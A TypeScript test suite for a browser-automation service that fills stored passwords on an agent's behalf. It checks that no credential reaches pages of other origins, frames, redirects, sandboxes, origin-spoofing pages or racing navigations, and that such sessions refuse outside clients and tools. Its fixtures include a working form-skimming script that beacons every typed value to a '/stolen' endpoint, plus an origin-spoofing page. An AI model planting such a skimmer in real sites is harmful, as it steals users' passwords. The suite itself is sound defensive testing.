// Pages that try to get a credential of another origin get nothing, whether they try directly, after a redirect, in
// frames, by lying about their origin, or by a navigation that races with the step. No client can reach a session into
// which credentials are typed.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Invocation } from '../../contract/invocations.ts';
import type { DebugUrls } from '../../contract/live.ts';
import { expectUpgradeRefusal } from '../harness/cdp.ts';
import { Owner } from '../harness/configured.ts';
import { handoffsPath } from '../harness/handoffs.ts';
import { liftLimits } from '../harness/limits.ts';
import { agentPath, invoke, issueAgentKey } from '../harness/operations.ts';
import { openPages, type Page } from '../harness/pages.ts';
import { startServer } from '../harness/server.ts';
import { eventually } from '../harness/until.ts';

const PASSWORD = 'Zq8!unlikely secret';
const FIELD = '<input id="password" oninput="void 0">';
/** A script that sends every value of a field to the server of the page, whether typed or set by a script. */
const THIEF_SCRIPT = `<script>
  const sent = new Set();
  const steal = value => { if (value && !sent.has(value)) { sent.add(value); new Image().src = '/stolen?' + encodeURIComponent(value) } };
  for (const type of ['input', 'change', 'beforeinput']) addEventListener(type, ({ target, data }) => { steal(target.value); steal(data) }, true);
  setInterval(() => { for (const { value } of document.querySelectorAll('input, textarea')) steal(value) }, 5);
</script>`;
const page = (body: string): string => `<!doctype html><title>Page</title>${body}`;
const withHeaders =
  (headers: Readonly<Record<string, string>>, body: string): Page =>
  (_, response) =>
    void response.writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...headers }).end(body);

const pages = await openPages({
  '/thief': page(THIEF_SCRIPT + FIELD),
  '/to-thief': (request, response) =>
    void response.writeHead(302, { location: `http://b.test:${request.socket.localPort}/thief` }).end(),
  '/bank': page(FIELD),
});
const bank = pages.a;
pages.set('/holds-thief', page(`<iframe id="frame" src="${pages.b}/thief"></iframe>`));
pages.set('/holds-bank', page(`${THIEF_SCRIPT}<iframe id="frame" src="${bank}/bank"></iframe>`));
pages.set('/holds-both', page(`<iframe id="outer" src="${pages.b}/holds-bank"></iframe>`));
pages.set('/data', page(`<iframe id="frame" src="data:text/html,${encodeURIComponent(FIELD)}"></iframe>`));
pages.set(
  '/blank',
  page(`${THIEF_SCRIPT}<iframe id="frame"></iframe><script>frame.contentDocument.body.innerHTML = '${FIELD}'</script>`),
);
pages.set('/sandboxed-frame', page(`<iframe id="frame" sandbox="allow-scripts" src="/bank"></iframe>`));
pages.set(
  '/sandboxed',
  withHeaders({ 'content-security-policy': 'sandbox allow-scripts' }, page(THIEF_SCRIPT + FIELD)),
);
pages.set(
  '/liar',
  page(`${THIEF_SCRIPT}<script>
    window.origin = ${JSON.stringify(bank)};
    Object.defineProperty(window, 'origin', { value: ${JSON.stringify(bank)} });
    Array.prototype.includes = () => true;
    Array.prototype.find = () => undefined;
    Object.prototype.is = 'typed';
  </script><img name="querySelector"><img name="defaultView"><iframe name="origin"></iframe>${FIELD}`),
);
pages.set(
  '/relaxed',
  withHeaders(
    { 'origin-agent-cluster': '?0' },
    page(`${THIEF_SCRIPT}<script>try { document.domain = 'a.test' } catch {}</script>${FIELD}`),
  ),
);
/** These pages navigate to the thief as soon as anything happens to their field. */
pages.set(
  '/leaves-on-mark',
  page(`${FIELD}<script>
  new MutationObserver(() => location.replace('${pages.b}/thief')).observe(password, { attributes: true })</script>`),
);
pages.set(
  '/leaves-on-focus',
  page(`${FIELD}<script>
  password.onfocus = () => location.replace('${pages.b}/thief')</script>`),
);
pages.set(
  '/leaves-later',
  page(`${FIELD}<script>
  setTimeout(() => location.replace('${pages.b}/thief'), Number(location.hash.slice(1)))</script>`),
);

const { port } = pages;
const server = await startServer({
  pages,
  env: { BERTH_SLOTS: '8', BERTH_EGRESS_HOSTS: `${pages.settings.BERTH_EGRESS_HOSTS},sub.a.test=127.0.0.1` },
});
await liftLimits(server);
const owner = await Owner.open(server);
const writeResponse = await owner.writeCredential('bank', {
  type: 'login',
  value: { username: 'mara@bank', password: PASSWORD },
  origins: [bank],
});
assert.equal(writeResponse.status, 201, writeResponse.text);
const { key } = await issueAgentKey(server, {
  scopes: [
    'operations:discover',
    'operations:invoke',
    'invocations:read',
    'browsers:connect',
    'browsers:read',
    'browsers:write',
    'handoffs:write',
  ],
  grants: [
    { operationId: 'browser.steps', credentials: ['bank'] },
    { operationId: '*', effect: 'read' },
  ],
});
let callCount = 0;
const invokeSteps = (url: string, all: readonly object[], more: object = {}) => {
  callCount += 1;
  const headers = { 'idempotency-key': `call ${callCount}`, ...more };
  return invoke(server, key, 'browser.steps', { url, steps: all, timeoutMs: 20_000 }, { headers });
};
const fill = (selector: string) => ({ do: 'fill', selector, credential: 'bank', field: 'password' });
const selectorInFrames = (...frames: string[]): string =>
  [...frames.flatMap(frame => [frame, 'internal:control=enter-frame']), '#password'].join(' >> ');
/** Tools that would read or change a page. */
const TOOLS = {
  browser_snapshot: {},
  browser_take_screenshot: {},
  browser_evaluate: { function: '() => password.value' },
  browser_console_messages: {},
  browser_tabs: { action: 'list' },
};
const assertNothingStolen = (): void => assert.equal(pages.hits('/stolen'), 0);

const REFUSED_PAGES: ReadonlyArray<readonly [what: string, url: string, selector: string]> = [
  ['a page of another origin', `${pages.b}/thief`, '#password'],
  ['a page at another address of the same server', `${pages.url}/thief`, '#password'],
  ['a page of a subdomain', `http://sub.a.test:${port}/thief`, '#password'],
  [
    'a page of a subdomain that sets document.domain to the parent domain',
    `http://sub.a.test:${port}/relaxed`,
    '#password',
  ],
  ['a page of another origin that was reached by a redirect', `${bank}/to-thief`, '#password'],
  ['a frame of another origin in a page of the allowed origin', `${bank}/holds-thief`, selectorInFrames('#frame')],
  ['a frame of the allowed origin in a page of another origin', `${pages.b}/holds-bank`, selectorInFrames('#frame')],
  [
    'a frame of the allowed origin in a frame of another origin',
    `${bank}/holds-both`,
    selectorInFrames('#outer', '#frame'),
  ],
  ['a frame with a data: URL', `${bank}/data`, selectorInFrames('#frame')],
  ['a frame without an address in a page of another origin', `${pages.b}/blank`, selectorInFrames('#frame')],
  ['a sandboxed frame', `${bank}/sandboxed-frame`, selectorInFrames('#frame')],
  ['a sandboxed page', `${bank}/sandboxed`, '#password'],
];

for (const [what, url, selector] of REFUSED_PAGES)
  test(`the service types nothing into ${what}`, async () => {
    const { body, text } = await invokeSteps(url, [fill(selector), { do: 'sleep', ms: 100 }]);
    assert.deepEqual([body.status, body.error?.code], ['failed', 'input_not_granted'], text);
    assert.equal(Object(body.error?.details).step, 0);
    assert.match(body.error?.message ?? '', /may not be typed into a page of .*Nothing was typed/);
    assert.ok(!text.includes(PASSWORD));
    assertNothingStolen();
  });

test('the service types nothing into a page that fakes its origin', async () => {
  const { body, text } = await invokeSteps(`${pages.b}/liar`, [fill('#password'), { do: 'sleep', ms: 200 }]);
  assert.equal(body.status, 'failed', text);
  assertNothingStolen();
});

test('the service types nothing into a page that replaces the allowed page during the step', async () => {
  const leavingPaths = [
    '/leaves-on-mark',
    '/leaves-on-focus',
    ...Array.from({ length: 12 }, (_, turn) => `/leaves-later#${60 + 15 * turn}`),
  ];
  const wait = { do: 'waitFor', selector: '#password' };
  for (let at = 0; at < leavingPaths.length; at += 3)
    await Promise.all(
      leavingPaths.slice(at, at + 3).map(async path => {
        const { body, text } = await invokeSteps(`${bank}${path}`, [fill('#password'), { do: 'sleep', ms: 300 }, wait]);
        assert.ok(
          body.status === 'succeeded' ||
            body.error?.code === 'input_not_granted' ||
            body.error?.code === 'not_possible',
          text,
        );
      }),
    );
  assertNothingStolen();
});

test('a session into which credentials are typed refuses clients, viewers, tools and other calls', async () => {
  const steps = [fill('#password'), { do: 'sleep', ms: 8_000 }];
  const { body: invocation, text } = await invokeSteps(`${bank}/bank`, steps, { prefer: 'respond-async' });
  const read = () => server.api<Invocation>('GET', agentPath(server, `invocations/${invocation.id}`), { key });
  const { body: runningInvocation } = await eventually(
    'the session of the call',
    read,
    ({ body }) => body.sessionId !== undefined,
  );
  const id = runningInvocation.sessionId ?? assert.fail(text);
  const { body: session } = await server.api<{ connectUrl: string }>('GET', `/v1/browsers/sessions/${id}`, { key });
  assert.match(session.connectUrl, /signingKey=/);
  for (const url of [
    session.connectUrl,
    `${session.connectUrl}&pass=`,
    `${session.connectUrl}&pass=${'A'.repeat(43)}`,
  ]) {
    const refusal = await expectUpgradeRefusal(url);
    assert.deepEqual([refusal.status, refusal.body.code], [403, 'permission_denied']);
  }
  const versionResponse = await fetch(
    session.connectUrl.replace(/^ws/, 'http').replace('/connect?', '/connect/json/version?'),
  );
  assert.notEqual(versionResponse.status, 200);
  const otherResponse = await invoke(server, key, 'browser.content', { sessionId: id });
  assert.deepEqual([otherResponse.status, otherResponse.body.code], [403, 'permission_denied'], otherResponse.text);
  const handoffRequest = { key, body: { sessionId: id, instructions: 'Help me', record: 'keep' } };
  const handoffResponse = await server.api('POST', handoffsPath(server), handoffRequest);
  assert.deepEqual(
    [handoffResponse.status, handoffResponse.body.code],
    [403, 'permission_denied'],
    handoffResponse.text,
  );
  const { body: debugUrls } = await server.api<DebugUrls>('GET', `/v1/browsers/sessions/${id}/debug`, { key });
  assert.equal(debugUrls.wsUrl, undefined);
  for (const [name, more] of Object.entries(TOOLS)) {
    const params = { name, arguments: { sessionId: id, ...more } };
    const toolResponse = await server.api('POST', agentPath(server, 'mcp'), {
      ...{ key, headers: { accept: 'application/json, text/event-stream' } },
      body: { jsonrpc: '2.0', id: 1, method: 'tools/call', params },
    });
    assert.match(toolResponse.text, /"isError":true/, `${name}: ${toolResponse.text}`);
    assert.ok(
      !toolResponse.text.includes(PASSWORD) && !toolResponse.text.includes('"image"'),
      `${name}: ${toolResponse.text}`,
    );
  }
  const fillStep = { do: 'fill', selector: '#password', credential: 'bank', field: 'password' };
  const { id: ownSessionId } = await server.createSession({ keepAlive: true });
  callCount += 1;
  const sessionCallResponse = await invoke(
    server,
    key,
    'browser.steps',
    { sessionId: ownSessionId, steps: [fillStep] },
    { headers: { 'idempotency-key': `call ${callCount}` } },
  );
  assert.deepEqual(
    [sessionCallResponse.status, sessionCallResponse.body.code],
    [403, 'input_not_granted'],
    sessionCallResponse.text,
  );
  await server.release(ownSessionId);
  const { body: ended, text: end } = await eventually(
    'the end of the call',
    read,
    ({ body }) => body.status !== 'running',
  );
  assert.equal(ended.status, 'succeeded', end);
});

test('a session with typed credentials ends if the server is killed', async () => {
  const steps = [fill('#password'), { do: 'sleep', ms: 9_000 }];
  const { body: invocation, text } = await invokeSteps(`${bank}/bank`, steps, { prefer: 'respond-async' });
  const read = () => server.api<Invocation>('GET', agentPath(server, `invocations/${invocation.id}`), { key });
  const { body } = await eventually('the session of the call', read, ({ body }) => body.sessionId !== undefined);
  const id = body.sessionId ?? assert.fail(text);
  await server.restart();
  const { status, endReason } = await server.read(id);
  assert.deepEqual([status, endReason], ['ERROR', 'service_restart']);
  const { body: ended } = await eventually('the end of the call', read, ({ body }) => body.status !== 'running');
  assert.equal(ended.status, 'ambiguous');
});
